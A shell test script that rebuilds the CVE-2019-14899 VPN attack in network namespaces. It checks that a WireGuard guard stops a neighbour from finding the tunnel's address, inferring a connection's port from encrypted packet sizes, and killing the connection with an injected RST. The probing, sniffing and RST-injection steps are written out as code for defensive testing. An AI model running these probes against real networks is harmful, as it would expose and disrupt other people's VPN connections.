#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# CVE-2019-14899 as it was published: a neighbour finds out which address the tunnel has,
# then which connection goes through it, by the size of what the client sends encrypted,
# and ends that connection. Without the guard all of it works, with it nothing is seen.
# The reverse-path filter is loose, as systemd had set it.

. "$(dirname "$0")/../lib.sh"
. "$top/tests/attacks.sh"

need_module
topo_up
sysctl_set "$client" 2 'ipv4/conf/*/rp_filter'
client_mac=$(mac "$client" lan)

ip netns exec "$server" socat TCP4-LISTEN:80,bind=198.51.100.1,fork,reuseaddr EXEC:cat &
server_pid=$!
client_pid='' spy_pid=''

cleanup() {
	# shellcheck disable=SC2086
	kill $server_pid $client_pid $spy_pid
	wait
} 2>/dev/null

# What the neighbour, and whoever is on the way, can see. Handshakes and keepalives of
# WireGuard are not about what is in the tunnel; they have 176, 120 and 60 bytes.
watch_lan() {
	on "$neighbour" nft -f - <<-EOF
		table inet spy {
			set answers { typeof ip saddr . tcp flags; flags dynamic; }
			chain in {
				type filter hook prerouting priority raw
				ip saddr 10.2.0.0/24 meta l4proto tcp update @answers { ip saddr . tcp flags } drop
			}
		}
	EOF
	on "$router" nft -f - <<-EOF
		table inet spy {
			set sizes { typeof meta length; flags dynamic; }
			chain in {
				type filter hook prerouting priority raw
				iifname lan udp dport 51820 meta length != { 60, 120, 176 } update @sizes { meta length }
			}
		}
	EOF
}

# spied NS SET: the elements since the last time
spied() {
	on "$1" nft -n list set inet spy "$2" | tr -d '\n\t' |
		sed 's/.*elements = {\([^}]*\)}.*/\1/; t; d' | tr -d ' '
	on "$1" nft flush set inet spy "$2"
}

# probe LINE...: the neighbour sends them; the client has answered when this returns
probe() {
	printf '%s\n' "$@" | on "$neighbour" send-packets lan "$client_mac" >/dev/null
	ping_through "$neighbour" 192.168.44.2 >/dev/null
}

connected() {
	[ -d /proc/$client_pid ] && on "$client" ss -Htn state established | grep -q 10.2.0.2:40000
}

# connect: the client's connection, which says nothing; its next byte is $next
connect() {
	# not by "on", so that $! is the program and not a shell around it
	ip netns exec "$server" tcpdump -Z root -l -n -S -i wg0 'tcp src port 40000' \
		>"$tmp/tcpdump" 2>"$tmp/tcpdump.log" &
	spy_pid=$!
	wait_for 20 grep -q listening "$tmp/tcpdump.log"
	rm -f "$tmp/input"
	mkfifo "$tmp/input"
	ip netns exec "$client" socat "TCP4:198.51.100.1:80,bind=10.2.0.2:40000,reuseaddr" - <"$tmp/input" >"$tmp/output" 2>&1 &
	client_pid=$!
	exec 3>"$tmp/input"
	echo first >&3
	wait_for 10 grep -q first "$tmp/output"
	wait_for 10 connected
	# its acknowledgement of that
	sleep 0.5
	kill $spy_pid
	next=$(sed -n 's/.* ack \([0-9]*\),.*/\1/p' "$tmp/tcpdump" | tail -n 1)
}

# goes_on: nobody reads what is said to a connection that has ended
goes_on() {
	connected && echo second >&3 && wait_for 10 grep -q second "$tmp/output"
}

disconnect() {
	exec 3>&-
	kill $client_pid 2>/dev/null || :
	wait $client_pid 2>/dev/null || :
}

# sizes_by_port: of what the client sends encrypted when somebody claims to be the
# server and wants a new connection from each of these ports
sizes_by_port() {
	for port in 39999 40000 40001; do
		probe "$(ip4 198.51.100.1 10.2.0.2 "$(tcp 80 $port 1 0 02)")"
		echo "$port:$(spied "$router" sizes)"
	done
}

candidates() {
	for n in 1 2 3 4; do
		ip4 192.168.44.3 10.2.0.$n "$(tcp 5000 5001 1 1 12)"
	done
}

watch_lan
for mode in open kmod nft; do
	case $mode in
	open) client_up kmod 4 "#wgmark Guard = no" ;;
	*) client_up $mode 4 ;;
	esac
	ping_through "$client" 198.51.100.1 >/dev/null
	connect

	spied "$neighbour" answers >/dev/null
	probe "$(candidates)"
	answers=$(spied "$neighbour" answers)
	spied "$router" sizes >/dev/null
	sizes=$(sizes_by_port)
	verdict "which address does the tunnel have" "${answers:-nothing to see}"
	verdict "which port does a connection have, by the size of answers" "$(echo $sizes)"
	case $mode in
	open)
		is "$answers" 10.2.0.2.0x4 "$mode: of four addresses the tunnel's one answers, with RST"
		is "$sizes" "39999:108
40000:124
40001:108" "$mode: the connection's port shows by the size of the answer"
		;;
	*)
		is "$answers" "" "$mode: no address answers"
		is "$sizes" "39999:
40000:
40001:" "$mode: no port shows"
		;;
	esac
	check "$mode: the connection is there" connected
	probe "$(ip4 198.51.100.1 10.2.0.2 "$(tcp 80 40000 "$next" 0 04)")"
	connected && rst="it goes on" || rst="it ends"
	verdict "RST for a connection" "$rst"
	if [ $mode = open ]; then
		check_fails "$mode: the neighbour's RST ends the connection" connected
	else
		check "$mode: the neighbour's RST does not end the connection" connected
		check "$mode: and it goes on" goes_on
	fi
	disconnect
	client_down
done

proof "the probes of CVE-2019-14899"
done_testing
